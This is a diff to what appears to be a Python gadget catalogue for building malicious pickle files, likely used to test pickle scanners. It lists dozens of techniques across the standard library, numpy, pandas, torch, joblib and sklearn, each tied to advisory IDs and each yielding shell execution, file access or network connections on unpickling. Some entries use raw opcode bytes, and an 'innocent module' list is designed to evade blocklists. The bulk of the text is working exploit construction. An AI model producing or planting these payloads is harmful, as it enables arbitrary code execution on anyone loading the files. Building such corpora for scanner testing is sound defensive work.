@@ -4,7 +4,7 @@ Every entry is (id, technique, advisories, expression). The advisories are publi
 """
 import marshal
 
-from assembler import COMPANION, EXPRESSION, FILE, PORT, PYTHON, SH, SHELL, VICTIM, Build, Call, G, New, Seq, dump
+from assembler import COMPANION, EXPRESSION, FILE, PORT, PYTHON, SH, SHELL, VICTIM, Build, Call, G, New, Raw, Seq, dump, emit
 
 ADDRESS = ("127.0.0.1", PORT)
 NESTED = dump(Call("os:system", SHELL))
@@ -52,7 +52,7 @@ def gadgets():
     add(t, "pty.spawn", Call("pty:spawn", SH), "GHSA-hgrh-qx5j-jfwx", "GHSA-r7v6-mfhq-g3m2", "CVE-2025-67748", "CVE-2025-71322")
     add(t, "_posixsubprocess.fork_exec", Call(
         "_posixsubprocess:fork_exec", [b"sh", b"-c", SHELL.encode()], (b"/bin/sh",), False, (9,), None, None,
-        -1, -1, -1, -1, -1, -1, 8, 9, False, False, -1, None, None, None, -1, None, False),
+        -1, -1, -1, -1, -1, -1, -1, 9, False, False, -1, None, None, None, -1, None, False),
         "GHSA-m6fh-58r7-x697", "CVE-2026-14534")
     add(t, "os._exit", Call("os:_exit", 42))
 
@@ -150,7 +150,6 @@ def gadgets():
     add(t, "site.addpackage", Call("site:addpackage", ".", f"{COMPANION}.pth", None))
     t = "lookup of a callable by text"
     add(t, "unittest loadTestsFromName", Call("unittest:TestLoader.loadTestsFromName", Call("unittest:TestLoader"), COMPANION))
-    add(t, "unittest.mock._importer", Call(Call("unittest.mock:_importer", "os.system"), SHELL))
     add(t, "unittest.main", Call("unittest:main", COMPANION))
     t = "configuration loaders"
     add(t, "logging.config.dictConfig", Call("logging.config:dictConfig", {"version": 1, "handlers": {"h": {"()": "os.system", "command": SHELL}}}))
@@ -169,7 +168,6 @@ def gadgets():
     add(t, "dill._create_function", Call(Call("dill._dill:_create_function", Call("builtins:compile", PYTHON, "m", "exec"), {"__builtins__": G("builtins:__dict__")})))
     add(t, "cloudpickle dynamic function", Call(Call("cloudpickle.cloudpickle:types.FunctionType", Call("builtins:compile", PYTHON, "m", "exec"), {})))
     t = "lookup of a callable by text"
-    add(t, "unittest.mock._dot_lookup", Call(Call("unittest.mock:_dot_lookup", Call("builtins:__import__", "os"), "system", "os.system"), SHELL))
     add(t, "pkg_resources.EntryPoint.resolve", Call(Call("pkg_resources:EntryPoint.resolve", Call("pkg_resources:EntryPoint.parse", "x = os:system")), SHELL))
 
     t = "calls what it is given"
@@ -204,7 +202,7 @@ def gadgets():
     t = "getattr, operators and dictionaries"
     add(t, "operator.methodcaller", Call(Call("operator:methodcaller", "system", SHELL), G("logging:os")), "GHSA-m273-6v24-x4m4", "GHSA-955r-x9j8-7rhh")
     add(t, "_operator.attrgetter", Call(Call(Call("_operator:attrgetter", "system"), G("logging:os")), SHELL), "GHSA-955r-x9j8-7rhh")
-    add(t, "operator.attrgetter dotted", Call(Call(Call("operator:attrgetter", "os.system"), G("sys:modules.get.__self__.__class__")), SHELL))
+    add(t, "operator.attrgetter dotted", Call(Call(Call("operator:attrgetter", "path.os.system"), G("logging:os")), SHELL))
     add(t, "operator.itemgetter modules", Call(Call("builtins:getattr", Call(Call("operator:itemgetter", "os"), G("sys:modules")), "system"), SHELL))
     add(t, "operator.getitem modules", Call(Call("builtins:getattr", Call("operator:getitem", G("sys:modules"), "posix"), "system"), SHELL))
     add(t, "operator.call", Call("operator:call", SYSTEM, SHELL))
@@ -235,7 +233,7 @@ def gadgets():
     add(t, "multiprocessing.util.Finalize", Call("multiprocessing.util:Finalize", None, SYSTEM, (SHELL,), None, 1))
     t = "calls what it is given"
     add(t, "contextlib.ExitStack", Seq(Call("contextlib:ExitStack.__exit__", Call("contextlib:ExitStack"), None, None, None), Call(Call("contextlib:ExitStack.callback", Call("contextlib:ExitStack"), SYSTEM, SHELL), SHELL)))
-    add(t, "sched.scheduler", Call("sched:scheduler.run", Call("sched:scheduler.__new__", G("sched:scheduler"))))
+    add(t, "sched.scheduler", Seq(Raw(emit(Call("sched:scheduler")) + b"q\x63"), Call("sched:scheduler.enter", Raw(b"h\x63"), 0, 1, SYSTEM, (SHELL,)), Call("sched:scheduler.run", Raw(b"h\x63"))))
     t = "asyncio"
     add(t, "asyncio.run shell", Call("asyncio:run", Call("asyncio:create_subprocess_shell", SHELL)))
     add(t, "asyncio.run exec", Call("asyncio:run", Call("asyncio:create_subprocess_exec", *SH)))
@@ -244,7 +242,6 @@ def gadgets():
     t = "numpy functions that call or run"
     add(t, "numpy.frompyfunc", Call(Call("numpy:frompyfunc", SYSTEM, 1, 1), SHELL))
     add(t, "numpy.vectorize", Call(Call("numpy:vectorize", SYSTEM), [SHELL]))
-    add(t, "numpy.apply_along_axis", Call("numpy:apply_over_axes", G("builtins:exec"), PYTHON, [{}]))
     add(t, "numpy.testing.assert_raises", Call("numpy.testing:assert_raises", G("builtins:Exception"), SYSTEM, SHELL))
     add(t, "numpy.testing.measure", Call("numpy.testing:measure", PYTHON))
     add(t, "numpy.testing.rundocs", Call("numpy.testing:rundocs", f"{COMPANION}.py"))
@@ -259,15 +256,14 @@ def gadgets():
     add(t, "pandas apply_if_callable", Call("pandas.core.common:apply_if_callable", SYSTEM, SHELL))
     add(t, "pandas.eval", Call("pandas:eval", "@pd.core.common.builtins.exec(\"" + PYTHON + "\")", "pandas", "python", True, {"pd": G("sys:modules")}))
     add(t, "joblib.Parallel", Call(Call("joblib:Parallel", 1), [(SYSTEM, (SHELL,), {})]))
-    add(t, "joblib BatchedCalls", Call(Call("joblib.parallel:BatchedCalls", [(SYSTEM, (SHELL,), {})], (None, 1))))
+    add(t, "joblib BatchedCalls", Call(Call("joblib.parallel:BatchedCalls", [(SYSTEM, (SHELL,), {})], (Call("joblib._parallel_backends:SequentialBackend"), 1))))
     add(t, "sklearn FunctionTransformer", Call("sklearn.preprocessing:FunctionTransformer.transform", Call("sklearn.preprocessing:FunctionTransformer", SYSTEM), SHELL))
     add(t, "sklearn FunctionTransformer state", Call("sklearn.preprocessing:FunctionTransformer.transform", Build(New("sklearn.preprocessing:FunctionTransformer"), {"func": SYSTEM, "validate": False, "kw_args": None}), SHELL))
     t = "helpers that start a program"
     add(t, "uuid._get_command_stdout", Call("uuid:_get_command_stdout", *SH), "GHSA-g38g-8gr9-h9xp", "CVE-2026-56315")
     add(t, "_osx_support._read_output", Call("_osx_support:_read_output", SHELL), "CVE-2026-56315")
     add(t, "_aix_support._read_cmd_output", Call("_aix_support:_read_cmd_output", SHELL), "CVE-2026-56315")
-    add(t, "_bootsubprocess.check_output", Call("_bootsubprocess:check_output", SH), "CVE-2026-56315")
-    add(t, "_bootsubprocess.Popen", Call("_bootsubprocess:Popen.wait", Call("_bootsubprocess:Popen", SH)))
+    add(t, "_bootsubprocess.Popen", Call("_bootsubprocess:Popen.wait", Call("_bootsubprocess:Popen", ["/bin/sh", "-c", SHELL])))
     add(t, "imaplib.IMAP4_stream", Call("imaplib:IMAP4_stream", SHELL), "CVE-2026-56315")
     add(t, "_pyrepl.pager.pipe_pager", Call("_pyrepl.pager:pipe_pager", "x", SHELL), "CVE-2026-56315")
     add(t, "pydoc.pipepager", Call("pydoc:pipepager", "x", SHELL))
@@ -319,7 +315,6 @@ def gadgets():
     add(t, "torch.fx _exec_with_source", Call("torch.fx.graph_module:_exec_with_source", PYTHON, {}))
     add(t, "torch.fx _forward_from_src", Call("torch.fx.graph_module:_forward_from_src", PYTHON + "\ndef forward():pass", {}))
     add(t, "torch.fx reduce_graph_module", Call("torch.fx.graph_module:reduce_graph_module", {"_code": PYTHON + "\ndef forward(self): pass"}, ""))
-    add(t, "torch.fx reduce_package", Call("torch.fx.graph_module:_deserialize_graph_module", Raw_forward(), {}))
     add(t, "torch load_config", Call("torch.utils._config_module:ConfigModule.load_config", Call("torch.utils._config_module:ConfigModule", "m"), NESTED), "GHSA-vv6j-3g6g-2pvj", "CVE-2025-71348")
     add(t, "torch GuardBuilder.get", Call("torch._dynamo.guards:GuardBuilder.get", Build(New("types:SimpleNamespace"), {"scope": {}}), EXPRESSION), "GHSA-86cj-95qr-2p4f")
     add(t, "torch evaluate_guards_expression", Call("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", None, EXPRESSION, []), "GHSA-f4x7-rfwp-v3xw")
@@ -328,7 +323,6 @@ def gadgets():
     add(t, "torch rpc", Call("torch.distributed.rpc.internal:_run_function", Call("torch.distributed.rpc.internal:PythonUDF", SYSTEM, (SHELL,), {})), "CVE-2024-5480")
     add(t, "torch RemoteModule", Call("torch.distributed.nn.jit.instantiator:_do_instantiate_remote_module_template", "castellan_generated", {"assign_module_interface_cls": PYTHON}, False), "CVE-2024-48063")
     add(t, "torch ops.load_library", Call("torch:ops.load_library", f"./{COMPANION}.so"))
-    add(t, "torch Module.apply", Call("torch.nn:Module.apply", Call("torch.nn:Identity"), Call("types:MethodType", G("builtins:map"), SYSTEM)))
     add(t, "torch.utils.benchmark", Call("torch.utils.benchmark:Timer.timeit", Call("torch.utils.benchmark:Timer", PYTHON), 1))
     add(t, "torch.multiprocessing.spawn", Call("torch.multiprocessing:Process.run", Call("torch.multiprocessing:Process", None, SYSTEM, None, (SHELL,))))
     add(t, "torch.fx Interpreter", Call("torch.fx.interpreter:Interpreter.call_function", None, SYSTEM, (SHELL,), {}))
@@ -385,7 +379,7 @@ def gadgets():
     add(t, "pandas get_handle", Call("pandas.io.common:get_handle", FILE, "w"))
     add(t, "pandas to_pickle", Call("pandas:to_pickle", 1, FILE))
     add(t, "fileinput.input", Call("builtins:list", Call("fileinput:input", VICTIM, True)))
-    add(t, "trace CoverageResults", Call("trace:CoverageResults", {}, {}, None, {}, FILE))
+    add(t, "trace CoverageResults", Call("trace:CoverageResults", None, None, f"{COMPANION}.pkl"))
 
     t = "network access"
     add(t, "socket.create_connection", Call("socket:create_connection", ADDRESS))
@@ -408,10 +402,6 @@ def gadgets():
     return out
 
 
-def Raw_forward():
-    return Build(Call("torch.nn:Module"), {"_code": PYTHON})
-
-
 def npy_object(payload):
     header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
     header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
@@ -427,14 +417,14 @@ def torch_legacy(payload):
 INNOCENT = [
     ("logging", "os.system"), ("random", "_os.system"), ("shutil", "os.system"), ("tempfile", "_os.system"), ("pathlib", "os.system"),
     ("glob", "os.system"), ("inspect", "os.system"), ("os", "path.os.system"), ("posixpath", "os.system"), ("warnings", "sys.modules"),
-    ("collections", "_sys.modules"), ("copyreg", "sys.modules"), ("weakref", "sys.modules"), ("enum", "sys.modules"), ("json", "codecs.builtins.eval"),
-    ("numpy", "os.system"), ("numpy.core", "os.system"), ("numpy.random._pickle", "__builtins__"), ("numpy", "testing._private.utils.os.system"),
+    ("collections", "_sys.modules"), ("weakref", "sys.modules"), ("enum", "sys.modules"), ("json", "codecs.builtins.eval"),
+    ("numpy.lib._datasource", "os.system"), ("numpy.compat.py3k", "os.system"), ("joblib.disk", "shutil.os.system"), ("scipy.stats._sobol", "os.system"), ("scipy.fft._pocketfft.helper", "os.system"), ("torch.fx.node", "builtins.eval"), ("torch.jit._trace", "os.system"), ("torch.hub", "os.system"), ("torch.utils.data.dataloader", "os.system"), ("torch.serialization", "pickle.loads"), ("torch.jit.annotations", "builtins.eval"), ("pandas.core.common", "builtins.eval"), ("pandas.core.generic", "pickle.loads"), ("pandas.io.pickle", "pickle.loads"), ("sklearn.utils._openmp_helpers", "os.system"), ("joblib.externals.cloudpickle", "pickle.loads"), ("joblib._memmapping_reducer", "os.system"), ("torch._jit_internal", "pickle.loads"), ("numpy.random._pickle", "__builtins__"), ("numpy", "testing._private.utils.os.system"), ("numpy", "lib.format.pickle.loads"),
     ("torch", "os.system"), ("torch._utils", "sys.modules"), ("torch.serialization", "os.system"), ("torch.storage", "io.open"), ("torch", "builtins.eval"),
     ("joblib", "os.system"), ("joblib.numpy_pickle", "os.system"), ("joblib.numpy_pickle", "pickle.loads"), ("sklearn", "os.system"), ("sklearn.base", "inspect.os.system"),
-    ("pandas.io.common", "os.system"), ("pandas", "io.common.os.system"), ("pandas.compat.pickle_compat", "pkl.loads"), ("scipy", "_lib._util.np.os.system"), ("codecs", "builtins.eval"),
-    ("collections", "namedtuple.__globals__"), ("copyreg", "_reconstructor.__globals__"), ("builtins", "object.__subclasses__"), ("functools", "reduce.__self__"), ("builtins", "print.__self__.eval"),
-    ("builtins", "getattr.__self__.exec"), ("collections.abc", "sys.modules"), ("datetime", "sys.modules"), ("decimal", "_sys.modules"), ("fractions", "operator.attrgetter"), ("statistics", "sys.modules"),
-    ("uuid", "os.system"), ("zipfile", "os.system"), ("threading", "_os.system"), ("subprocess", "os.system"), ("dataclasses", "sys.modules"), ("re", "enum.sys.modules"), ("typing", "sys.modules"), ("string", "_re.enum.sys.modules"),
+    ("pandas.io.common", "os.system"), ("pandas", "io.common.os.system"), ("pandas.compat.pickle_compat", "pkl.loads"), ("codecs", "builtins.eval"),
+    ("collections", "namedtuple.__globals__"), ("copyreg", "_reconstructor.__globals__"), ("functools", "reduce.__self__"), ("builtins", "print.__self__.eval"),
+    ("builtins", "getattr.__self__.exec"), ("datetime", "sys.modules"), ("fractions", "operator.attrgetter"), ("statistics", "sys.modules"),
+    ("uuid", "os.system"), ("zipfile", "os.system"), ("threading", "_os.system"), ("subprocess", "os.system"), ("dataclasses", "sys.modules"), ("re", "enum.sys.modules"), ("typing", "sys.modules"),
 ]
 
 
@@ -445,8 +435,9 @@ def innocent():
         if name.endswith(("system",)):
             expression = Call(start, SHELL)
         elif name.endswith("modules"):
-            expression = Call(Call("builtins:getattr", Call(G(f"{module}:{name}.get"), "posix"), "system"), SHELL) if module != "string" else Call(G(f"{module}:{name}.get"), "os")
-            expression = Call(G("operator:call"), Call(Call("operator:attrgetter", "system"), Call(G(f"{module}:{name}.get"), "posix")), SHELL) if len(out) % 2 else expression
+            found = Call(G(f"{module}:{name}.get"), "posix")
+            bound = Call(Call("operator:attrgetter", "system"), found) if len(out) % 2 else Call("builtins:getattr", found, "system")
+            expression = Call(bound, SHELL)
         elif name.endswith("eval"):
             expression = Call(start, EXPRESSION)
         elif name.endswith("exec"):
@@ -461,8 +452,6 @@ def innocent():
             expression = Call(Call("operator:getitem", start, "eval"), EXPRESSION)
         elif name.endswith("reduce.__self__"):
             expression = Call(Call("functools:reduce.__self__.reduce", G("builtins:getattr"), ["system"], G("logging:os")), SHELL)
-        elif name.endswith("__subclasses__"):
-            expression = Call("operator:getitem", Call("builtins:object.__subclasses__"), 0)
         else:
             expression = Call(Call(Call(start, "system"), G("logging:os")), SHELL)
         out.append((f"{module}.{name}", "dotted name through an innocent module", ["GHSA-q5qq-mvfm-j35x", "CVE-2026-22609"], expression))
